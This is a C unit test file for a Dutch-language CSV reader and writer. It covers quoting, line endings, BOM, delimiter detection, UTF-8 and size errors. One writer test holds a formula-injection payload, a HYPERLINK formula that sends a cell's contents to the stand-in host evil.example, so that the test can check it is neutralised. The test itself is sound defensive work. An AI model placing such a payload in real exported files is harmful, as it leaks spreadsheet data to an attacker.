/* test_csv.c: the streaming CSV reader: quoting, line numbers, line endings, BOM,
 * delimiter detection, errors and a large file. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "ingest/csv.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static CsvReader *open_text(const char *text, char delim)
{
    PokErr err = {0};
    CsvReader *r = csv_open_mem("t.csv", text, strlen(text), delim, &err);
    if (!r) fail_msg("csv_open_mem: %s", err.msg);
    return r;
}

/* Read the next record and compare its fields and starting line. */
static void expect_record(CsvReader *r, long line, size_t n, const char *const *fields)
{
    PokErr err = {0};
    int got = csv_next(r, &err);
    if (got != 1) fail_msg("csv_next returned %d: %s", got, err.msg);
    assert_int_equal(csv_line(r), line);
    assert_int_equal(csv_nfields(r), n);
    for (size_t i = 0; i < n; i++) assert_string_equal(csv_field(r, i), fields[i]);
    assert_null(csv_field(r, n));
}

static void expect_end(CsvReader *r)
{
    PokErr err = {0};
    assert_int_equal(csv_next(r, &err), 0);
    assert_int_equal(csv_next(r, &err), 0);
}

static void expect_error(CsvReader *r, const char *msg)
{
    PokErr err = {0};
    assert_int_equal(csv_next(r, &err), -1);
    assert_string_equal(err.msg, msg);
    /* The reader stays failed. */
    memset(&err, 0, sizeof err);
    assert_int_equal(csv_next(r, &err), -1);
    assert_string_equal(err.msg, msg);
}

static void test_plain_and_quoted(void **state)
{
    (void)state;
    CsvReader *r = open_text("a,b,c\n"
                             "1,\"x, y\",\"he said \"\"hi\"\"\"\n"
                             ",,\n"
                             "\"\",last\n"
                             "in\"side,\"\"\n",
                             0);
    assert_int_equal(csv_delim(r), ',');
    expect_record(r, 1, 3, (const char *[]){"a", "b", "c"});
    expect_record(r, 2, 3, (const char *[]){"1", "x, y", "he said \"hi\""});
    expect_record(r, 3, 3, (const char *[]){"", "", ""});
    expect_record(r, 4, 2, (const char *[]){"", "last"});
    expect_record(r, 5, 2, (const char *[]){"in\"side", ""});
    expect_end(r);
    csv_close(r);
}

static void test_embedded_newlines_keep_line_numbers(void **state)
{
    (void)state;
    CsvReader *r = open_text("naam,opmerking\n"
                             "een,\"regel 1\nregel 2\nregel 3\"\n"
                             "twee,\"a\r\nb\"\n"
                             "\n"
                             "\n"
                             "drie,x\n",
                             0);
    expect_record(r, 1, 2, (const char *[]){"naam", "opmerking"});
    expect_record(r, 2, 2, (const char *[]){"een", "regel 1\nregel 2\nregel 3"});
    expect_record(r, 5, 2, (const char *[]){"twee", "a\nb"});
    expect_record(r, 9, 2, (const char *[]){"drie", "x"});
    expect_end(r);
    csv_close(r);
}

static void test_crlf_lone_cr_and_no_final_newline(void **state)
{
    (void)state;
    CsvReader *r = open_text("a;b\r\n1;2\r\n\r\n3;\"4\"\r5;6", 0);
    assert_int_equal(csv_delim(r), ';');
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    expect_record(r, 2, 2, (const char *[]){"1", "2"});
    expect_record(r, 4, 2, (const char *[]){"3", "4"});
    expect_record(r, 5, 2, (const char *[]){"5", "6"});
    expect_end(r);
    csv_close(r);
}

static void test_bom_is_skipped(void **state)
{
    (void)state;
    CsvReader *r = open_text("\xEF\xBB\xBFgm_code;naam\nGM0363;Amsterdam\n", 0);
    assert_int_equal(csv_delim(r), ';');
    expect_record(r, 1, 2, (const char *[]){"gm_code", "naam"});
    expect_record(r, 2, 2, (const char *[]){"GM0363", "Amsterdam"});
    expect_end(r);
    csv_close(r);
}

static void test_delimiter_detection(void **state)
{
    (void)state;
    /* Commas inside quotes do not count. */
    CsvReader *r = open_text("\"a,b,c\";d;e\n\"1,5\";2;3\n", 0);
    assert_int_equal(csv_delim(r), ';');
    expect_record(r, 1, 3, (const char *[]){"a,b,c", "d", "e"});
    csv_close(r);
    /* A tie, and a single column, mean ','. */
    r = open_text("a;b,c\n", 0);
    assert_int_equal(csv_delim(r), ',');
    expect_record(r, 1, 2, (const char *[]){"a;b", "c"});
    csv_close(r);
    r = open_text("enkel\n", 0);
    assert_int_equal(csv_delim(r), ',');
    csv_close(r);
    /* Only the header line counts, leading blank lines are skipped. */
    r = open_text("\n\na;b;c\n1,2,3,4,5\n", 0);
    assert_int_equal(csv_delim(r), ';');
    expect_record(r, 3, 3, (const char *[]){"a", "b", "c"});
    expect_record(r, 4, 1, (const char *[]){"1,2,3,4,5"});
    csv_close(r);
    /* A given delimiter wins. */
    r = open_text("a;b;c\n", '\t');
    assert_int_equal(csv_delim(r), '\t');
    expect_record(r, 1, 1, (const char *[]){"a;b;c"});
    csv_close(r);
}

static void test_empty_input(void **state)
{
    (void)state;
    CsvReader *r = open_text("", 0);
    expect_end(r);
    csv_close(r);
    r = open_text("\n\r\n\n", 0);
    expect_end(r);
    csv_close(r);
}

static void test_unterminated_quote(void **state)
{
    (void)state;
    CsvReader *r = open_text("a,b\n1,2\n3,\"open\nmore\n", 0);
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    expect_record(r, 2, 2, (const char *[]){"1", "2"});
    expect_error(r, "t.csv, regel 3: het aanhalingsteken aan het begin van een veld wordt "
                    "nergens afgesloten");
    csv_close(r);
}

static void test_text_after_closing_quote(void **state)
{
    (void)state;
    CsvReader *r = open_text("a,b\n\"1.234\"56,x\n", 0);
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    expect_error(r, "t.csv, regel 2: tekst na het afsluitende aanhalingsteken van een veld "
                    "(schrijf een aanhalingsteken binnen een veld als \"\")");
    csv_close(r);
}

static void test_binary_input(void **state)
{
    (void)state;
    static const char png[] = "\x89PNG\r\n\x1a\n\0\0\0\rIHDR";
    PokErr err = {0};
    assert_null(csv_open_mem("plaatje.png", png, sizeof png - 1, 0, &err));
    assert_string_equal(err.msg, "plaatje.png is geen CSV-bestand (bevat binaire gegevens)");

    /* A NUL byte after the first chunk is found while reading. */
    size_t len = 200000;
    char *text = malloc(len);
    assert_non_null(text);
    for (size_t i = 0; i < len; i++) text[i] = (i % 10 == 9) ? '\n' : 'x';
    text[150000] = '\0';
    char path[] = "/tmp/pok_test_csv_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    assert_int_equal(write(fd, text, len), (ssize_t)len);
    close(fd);
    free(text);
    CsvReader *r = csv_open(path, 0, &err);
    assert_non_null(r);
    int got;
    while ((got = csv_next(r, &err)) == 1) {
    }
    assert_int_equal(got, -1);
    char want[128];
    snprintf(want, sizeof want, "%s is geen CSV-bestand (bevat binaire gegevens)", path);
    assert_string_equal(err.msg, want);
    csv_close(r);
    unlink(path);
}

/* Every field is text (text.h): a Windows-1252 byte is refused with file, line and
 * column and the hint to save the file as UTF-8; the line is the one the byte is on,
 * also inside a quoted field that spans lines. */
static void test_invalid_utf8_refused(void **state)
{
    (void)state;
    CsvReader *r = open_text("code,naam\nGM0363,Caf\xE9\n", 0);
    expect_record(r, 1, 2, (const char *[]){"code", "naam"});
    expect_error(r, "t.csv, regel 2, kolom 2: geen geldige UTF-8-tekst (byte 0xE9 na 3 tekens); "
                    "is het bestand opgeslagen als Windows-1252 (ANSI)? Sla het op als CSV "
                    "UTF-8 (in Excel: Opslaan als, CSV UTF-8) en probeer het opnieuw");
    csv_close(r);
    r = open_text("a;b\n1;\"twee\nregels \xC3\x28\"\n", 0);
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    PokErr err = {0};
    assert_int_equal(csv_next(r, &err), -1);
    assert_non_null(strstr(err.msg, "t.csv, regel 3, kolom 2: geen geldige UTF-8-tekst"));
    csv_close(r);
    /* the header counts too; valid multi-byte text and a BOM pass */
    r = open_text("\xEF\xBB\xBFna\xFF\x61m\n", 0); /* \x61 is 'a' */
    expect_error(r, "t.csv, regel 1, kolom 1: geen geldige UTF-8-tekst (byte 0xFF na 2 tekens); "
                    "is het bestand opgeslagen als Windows-1252 (ANSI)? Sla het op als CSV "
                    "UTF-8 (in Excel: Opslaan als, CSV UTF-8) en probeer het opnieuw");
    csv_close(r);
    r = open_text("\xEF\xBB\xBFnaam\nCaf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80\n", 0);
    expect_record(r, 1, 1, (const char *[]){"naam"});
    expect_record(r, 2, 1, (const char *[]){"Caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80"});
    expect_end(r);
    csv_close(r);
}

/* A control character (other than tab and line ends) and a cell over the long bound. */
static void test_control_and_long_cells_refused(void **state)
{
    (void)state;
    CsvReader *r = open_text("a,b\n1,x\x1by\n", 0);
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    expect_error(r, "t.csv, regel 2, kolom 2: bevat een stuurteken (U+001B na 1 teken); alleen "
                    "tab en regeleinde mogen in een tekst");
    csv_close(r);
    r = open_text("a\n\"tab\there\r\nok\"\n", 0);
    expect_record(r, 1, 1, (const char *[]){"a"});
    expect_record(r, 2, 1, (const char *[]){"tab\there\nok"});
    csv_close(r);
    size_t len = 10001;
    char *text = malloc(len + 8);
    assert_non_null(text);
    memcpy(text, "a\n", 2);
    memset(text + 2, 'x', len);
    text[len + 2] = '\n';
    PokErr err = {0};
    r = csv_open_mem("lang.csv", text, len + 3, 0, &err);
    assert_non_null(r);
    expect_record(r, 1, 1, (const char *[]){"a"});
    expect_error(r, "lang.csv, regel 2, kolom 1: te lang: 10.001 tekens, hoogstens 10.000");
    csv_close(r);
    free(text);
}

static void test_record_too_long(void **state)
{
    (void)state;
    size_t len = CSV_MAX_RECORD + 100;
    char *text = malloc(len + 16);
    assert_non_null(text);
    strcpy(text, "a,b\n\"");
    memset(text + 5, 'x', len - 5);
    PokErr err = {0};
    CsvReader *r = csv_open_mem("groot.csv", text, len, 0, &err);
    assert_non_null(r);
    expect_record(r, 1, 2, (const char *[]){"a", "b"});
    assert_int_equal(csv_next(r, &err), -1);
    assert_non_null(strstr(err.msg, "groot.csv, regel 2: record langer dan 1048576 bytes"));
    csv_close(r);
    free(text);
}

static void test_open_missing_file(void **state)
{
    (void)state;
    PokErr err = {0};
    assert_null(csv_open("/nonexistent/pok/x.csv", 0, &err));
    assert_string_equal(err.msg,
                        "kan /nonexistent/pok/x.csv niet openen: No such file or directory");
    assert_null(csv_open("/tmp", 0, &err));
    assert_non_null(strstr(err.msg, "kan /tmp niet lezen"));
}

/* 200k records through a file: records cross chunk boundaries, quoted newlines too. */
static void test_large_file(void **state)
{
    (void)state;
    enum { N = 200000 };
    char path[] = "/tmp/pok_test_csv_XXXXXX";
    int fd = mkstemp(path);
    assert_true(fd >= 0);
    FILE *f = fdopen(fd, "w");
    assert_non_null(f);
    fputs("\xEF\xBB\xBFid;naam;bedrag\r\n", f);
    for (int i = 0; i < N; i++) {
        if (i % 1000 == 7)
            fprintf(f, "%d;\"twee\r\nregels; %d\";\"1.234,%02d\"\r\n", i, i, i % 100);
        else
            fprintf(f, "%d;gemeente %d;%d\r\n", i, i, i * 3);
    }
    fclose(f);

    PokErr err = {0};
    CsvReader *r = csv_open(path, 0, &err);
    assert_non_null(r);
    assert_int_equal(csv_delim(r), ';');
    expect_record(r, 1, 3, (const char *[]){"id", "naam", "bedrag"});
    long line = 2;
    char want[64];
    for (int i = 0; i < N; i++) {
        int got = csv_next(r, &err);
        if (got != 1) fail_msg("record %d: %d %s", i, got, err.msg);
        assert_int_equal(csv_line(r), line);
        assert_int_equal(csv_nfields(r), 3);
        assert_int_equal(atoi(csv_field(r, 0)), i);
        if (i % 1000 == 7) {
            snprintf(want, sizeof want, "twee\nregels; %d", i);
            assert_string_equal(csv_field(r, 1), want);
            snprintf(want, sizeof want, "1.234,%02d", i % 100);
            assert_string_equal(csv_field(r, 2), want);
            line += 2;
        } else {
            snprintf(want, sizeof want, "gemeente %d", i);
            assert_string_equal(csv_field(r, 1), want);
            line += 1;
        }
    }
    expect_end(r);
    csv_close(r);
    unlink(path);
}

/* The two CSV field writers (util.h): text is neutralised against formulas, values pok
 * made itself (a negative amount) are written as they are. */
static void test_csv_writers(void **state)
{
    (void)state;
    static const struct {
        const char *in, *text, *field;
    } cases[] = {
        {"Jobhunter", "Jobhunter", "Jobhunter"},
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"",
         "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\""},
        {"+31 6", "'+31 6", "+31 6"},
        {"-2500", "'-2500", "-2500"},
        {"-2500,50", "\"'-2500,50\"", "\"-2500,50\""},
        {"@SUM(A1)", "'@SUM(A1)", "@SUM(A1)"},
        {"\tx", "'\tx", "\tx"},
        {"\rx", "\"'\rx\"", "\"\rx\""},
        {"a=b", "a=b", "a=b"},
        {"", "", ""},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        Buf b = {0};
        buf_csv_text(&b, cases[i].in);
        assert_string_equal(b.data ? b.data : "", cases[i].text);
        buf_reset(&b);
        buf_csv_field(&b, cases[i].in);
        assert_string_equal(b.data ? b.data : "", cases[i].field);
        buf_free(&b);
    }
    Buf b = {0};
    buf_csv_text(&b, NULL);
    assert_null(b.data);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_and_quoted),
        cmocka_unit_test(test_embedded_newlines_keep_line_numbers),
        cmocka_unit_test(test_crlf_lone_cr_and_no_final_newline),
        cmocka_unit_test(test_bom_is_skipped),
        cmocka_unit_test(test_delimiter_detection),
        cmocka_unit_test(test_empty_input),
        cmocka_unit_test(test_unterminated_quote),
        cmocka_unit_test(test_text_after_closing_quote),
        cmocka_unit_test(test_binary_input),
        cmocka_unit_test(test_invalid_utf8_refused),
        cmocka_unit_test(test_control_and_long_cells_refused),
        cmocka_unit_test(test_record_too_long),
        cmocka_unit_test(test_open_missing_file),
        cmocka_unit_test(test_large_file),
        cmocka_unit_test(test_csv_writers),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
